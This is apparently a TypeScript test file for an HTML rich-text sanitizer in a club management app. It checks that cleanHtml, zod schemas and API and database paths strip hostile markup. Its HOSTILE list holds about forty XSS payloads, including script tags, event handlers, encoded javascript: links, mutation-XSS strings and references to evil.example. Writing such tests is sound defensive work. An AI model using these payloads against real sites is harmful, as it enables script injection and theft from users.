import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { z } from 'zod'
import { sharedProgram } from '../../app/testing.ts'
import { defineCommission } from '../../features/society/commissions/service.ts'
import { activeMember } from '../../features/society/persons/fixtures.ts'
import { RICH_TEXT_TAGS } from '../../shared/rich-text.ts'
import { RichText } from '../../shared/schemas.ts'
import { cleanHtml } from './rich-text.ts'

const HOSTILE: [what: string, html: string][] = [
  ['a script', '<p>Neige</p><script>alert(1)</script>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script in capitals, with a slash', '<SCRIPT/SRC=//evil.example/x.js></SCRIPT>'],
  ['an event handler', '<p onclick="alert(1)" onmouseover=alert(2)>Neige</p>'],
  ['a picture that fails on purpose', '<img src=x onerror=alert(1)>'],
  ['a handler behind a quote that never ends', '<img src="/a.png" alt="`><img src=x onerror=alert(1)//">'],
  ['a drawing that loads', '<svg/onload=alert(1)>'],
  [
    'a drawing with a script',
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  ],
  ['an animation that sets an address', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  ['an address that runs', '<a href="javascript:alert(1)">x</a>'],
  ['one in entities', '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>'],
  ['one with a tab and a line in it', '<a href="java\tscr\nipt:alert(1)">x</a>'],
  ['one behind a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['one of VBScript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link with data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a picture with data', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['a picture of another host', '<img src="https://evil.example/x.png">'],
  ['a picture of another host without its scheme', '<img src="//evil.example/x.png">'],
  ['one behind a backslash', '<img src="/\\evil.example/x.png">'],
  ['one behind a tab', '<img src="/\t/evil.example/x.png">'],
  ['pictures by density', '<img src="/a.png" srcset="https://evil.example/x.png 2x">'],
  ['a style that runs', '<p style="width: expression(alert(1)); background: url(javascript:alert(1))">x</p>'],
  ['a sheet of styles', '<style>@import "//evil.example/x.css"; p { color: red }</style><p class=danger id=main>x</p>'],
  ['a page in the page', '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object, an embedded one', '<object data="javascript:alert(1)"></object><embed src="//evil.example/x.swf">'],
  [
    'a form',
    '<form action="//evil.example"><input name=password autofocus onfocus=alert(1)><button>OK</button></form>',
  ],
  [
    'a base and a refresh',
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ],
  [
    'mathematics that change when read twice',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a drawing that changes when read twice', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['words for browsers without script', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'a form in mathematics',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['character data', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['a processing instruction', '<?xml version="1.0"?><p>x</p>'],
  [
    'a title, a text area',
    '<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)>',
  ],
  ['what is never closed', '<p><strong><a href="https://a.example"><em <img src=x onerror=alert(1)'],
  ['an attribute in an attribute', `<a href="https://a.example" title='"><img src=x onerror=alert(1)>'>x</a>`],
  ['angles as entities', '&lt;img src=x onerror=alert(1)&gt;'],
  ['a zero character', '<scr\u0000ipt>alert(1)</script><img src="/a.png\u0000" onerror=alert(1)>'],
  [
    'a paragraph that what goes left open',
    '<p><scr<script>ipt>alert(1)</scr</script>ipt><p>Neige</p><script>alert(1)</script>',
  ],
  ['a thousand quotes in each other', `${'<blockquote>'.repeat(1_000)}x`],
]

const TAG = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)(?: \/)?>/g
const ADDRESS = /^(https?:\/\/|mailto:|tel:)/
const ATTRIBUTES: Record<string, Record<string, RegExp>> = {
  a: { href: ADDRESS, rel: /^noopener$/ },
  img: { src: /^\/[^/\\\s]/, alt: /^/, width: /^/, height: /^/, loading: /^/ },
}

/** What of the HTML is not as it has to be; it is read by other rules than those it was written by. */
function faultsOf(html: string): string[] {
  const faults = html.replace(TAG, '').includes('<') ? ['a bracket that opens nothing'] : []
  for (const [, name = '', attributes = ''] of html.matchAll(TAG)) {
    if (!(RICH_TEXT_TAGS as readonly string[]).includes(name)) faults.push(name)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g))
      if (!ATTRIBUTES[name]?.[attribute]?.test(value)) faults.push(`${name} ${attribute}="${value}"`)
  }
  return faults
}

describe('A rich text is harmless (rules#rich-text)', () => {
  test.each(HOSTILE)('%s', (_what, html) => {
    const cleaned = cleanHtml(html)
    expect(faultsOf(cleaned)).toEqual([])
    expect(cleaned).not.toMatch(/<script|<style|javascript:alert|evil\.example\/x\.(png|css)/)
    expect(cleanHtml(cleaned)).toBe(cleaned)
  })

  test('whatever is sent, and cleaned twice it stays as it is', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE.map(([, html]) => html)),
      fc.string(),
      fc.constantFrom('<', '>', '"', '<p>', '</ul>'),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 4 }), (pieces) => {
        const cleaned = cleanHtml(pieces.join(''))
        expect(faultsOf(cleaned)).toEqual([])
        expect(cleanHtml(cleaned)).toBe(cleaned)
      }),
      { numRuns: 500 },
    )
  })

  test('allowed formatting stays in rich text, with its headings below those of the page', () => {
    const html =
      '<h1>Titre</h1><p><b>gras</b> <i>italique</i> <u>souligné</u> <del>barré</del></p><ul><li><p>un</p></li></ul>' +
      '<blockquote><p>cité</p></blockquote><hr><p><a href="mailto:a@b.fr">écrire</a><br><a href="/contact">ici</a></p>' +
      '<img src="/aspr/v1/files/1?a=1&amp;b=2" alt="Le lac" width="640" height="480">'
    expect(cleanHtml(html)).toBe(
      '<h2>Titre</h2><p><strong>gras</strong> <em>italique</em> <u>souligné</u> <s>barré</s></p><ul><li><p>un</p></li></ul>' +
        '<blockquote><p>cité</p></blockquote><hr /><p><a href="mailto:a@b.fr" rel="noopener">écrire</a><br />ici</p>' +
        '<img src="/aspr/v1/files/1?a=1&amp;b=2" alt="Le lac" width="640" height="480" />',
    )
  })

  test.each(['<p></p>', '<p>&nbsp;</p><p><br></p>', ' \n ', '<h2><strong></strong></h2>', '<script>x</script>'])(
    '%o says nothing: it is empty',
    (html) => expect(cleanHtml(html)).toBe(''),
  )
})

describe('No contract lets one through as it is', () => {
  const Nested = z.object({
    rows: z.array(z.union([z.object({ text: RichText.nullable() }), z.number()])),
    named: z.record(z.string(), RichText.max(20, 'too-long').optional()),
  })
  const given = {
    rows: [1, { text: '<p onclick=x>un</p>' }, { text: null }],
    named: { a: '<p></p>', b: '<img src=x>b' },
  }
  const clean = { rows: [1, { text: '<p>un</p>' }, { text: null }], named: { a: '', b: 'b' } }

  test('a body and a reply are cleaned wherever it stands in them', () => {
    expect(Nested.parse(given)).toEqual(clean)
    expect(z.encode(Nested, given as never)).toEqual(clean)
  })

  test('a length is that of what is left', () => {
    expect(
      Nested.safeParse({ rows: [], named: { a: `<p>${'x'.repeat(9)}</p><script>${'x'.repeat(99)}</script>` } }).success,
    ).toBe(true)
    expect(Nested.safeParse({ rows: [], named: { a: 'x'.repeat(21) } }).error?.issues[0]?.message).toBe('too-long')
  })

  const program = sharedProgram()
  // The database holds no zero character.
  const hostile = HOSTILE.map(([, html]) => html.replaceAll('\0', '')).join('')

  test('hostile text is cleaned whether sent to the API or written into the database', async () => {
    const { db } = program
    const admin = await activeMember(program, [{ name: 'general', role: 'ADMIN' }])
    const id = await defineCommission(db, { name: 'Ski', technicalName: 'ski', description: '' }, undefined)
    const sent = await program.call('PUT', `/commissions/${id}`, { ...admin, body: { description: hostile } })
    expect(sent.status).toBe(200)
    expect(faultsOf(sent.body.description)).toEqual([])
    const stored = await db.selectFrom('commissions').select('description').executeTakeFirstOrThrow()
    expect(faultsOf(stored.description)).toEqual([])

    await db.updateTable('commissions').set({ description: hostile }).execute()
    const value = JSON.stringify({ html: hostile, version: '7' })
    await db.insertInto('siteConfiguration').values({ key: 'rgpd', value }).execute()
    const read = await program.call('GET', `/commissions/${id}`, admin)
    const [listed] = (await program.call('GET', '/commissions', admin)).body._embedded.data
    const notice = await program.call('GET', '/siteconfiguration/rgpd')
    for (const html of [read.body.description, listed.description, notice.body.html]) {
      expect(html).toContain('Neige')
      expect(faultsOf(html)).toEqual([])
    }
  })
})
